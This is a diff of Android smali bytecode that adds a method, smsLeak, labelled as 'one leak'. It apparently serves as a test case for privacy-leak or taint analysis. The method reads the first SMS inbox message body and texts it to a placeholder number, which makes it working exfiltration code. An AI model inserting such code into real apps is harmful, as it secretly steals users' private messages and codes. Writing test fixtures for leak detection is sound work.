@@ -114,3 +114,34 @@
     invoke-static {v2, v3}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
     return-object v3
 .end method
+
+# The first SMS of the inbox forwarded by SMS: one leak; returns the number of rows.
+.method public static smsLeak(Landroid/content/ContentResolver;)I
+    .registers 12
+    move-object v0, p0
+    const-string v1, "content://sms/inbox"
+    invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
+    move-result-object v1
+    const/4 v2, 0x0
+    const/4 v3, 0x0
+    const/4 v4, 0x0
+    const/4 v5, 0x0
+    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
+    move-result-object v10
+    invoke-interface {v10}, Landroid/database/Cursor;->moveToFirst()Z
+    const-string v1, "body"
+    invoke-interface {v10, v1}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
+    move-result v1
+    invoke-interface {v10, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
+    move-result-object v7
+    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
+    move-result-object v4
+    const-string v5, "+15555550199"
+    const/4 v6, 0x0
+    const/4 v8, 0x0
+    const/4 v9, 0x0
+    invoke-virtual/range {v4 .. v9}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
+    invoke-interface {v10}, Landroid/database/Cursor;->getCount()I
+    move-result v1
+    return v1
+.end method
